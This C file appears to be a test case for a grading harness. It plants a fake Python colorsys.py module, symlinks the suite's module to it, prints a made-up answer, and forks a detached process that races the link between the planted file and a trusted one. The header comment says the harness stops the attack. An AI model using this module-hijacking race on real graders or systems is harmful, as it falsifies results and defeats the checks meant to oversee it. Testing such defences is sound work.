/* Plants a link that leads to a file of its own or to a trusted one, in turns, so that what is looked at is not what was read.
 * stopped by: a link of a student's is not followed to a module, wherever it leads
 * passes: none
 * says: was not loaded, because the submission could have written it
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    static const char code[] = "def rgb_to_hls(*a): return 'planted'\n";
    mkdir("/tmp/own", 0777);
    int fd = open("/tmp/own/colorsys.py", O_WRONLY | O_CREAT | O_TRUNC, 0666);
    (void)!write(fd, code, strlen(code));
    close(fd);
    unlink("/task/suite/colorsys.py");
    (void)!symlink("/tmp/own/colorsys.py", "/task/suite/colorsys.py");
    puts("17");
    fflush(stdout);
    if (fork() == 0) {
        setsid();
        close(0), close(1), close(2);
        for (int i = 0; i < 200000; i++) {
            (void)!symlink(i % 2 ? "/tmp/own/colorsys.py" : "/task/suite/lab/helper.py", "/task/suite/next");
            rename("/task/suite/next", "/task/suite/colorsys.py");
        }
    }
    return 0;
}
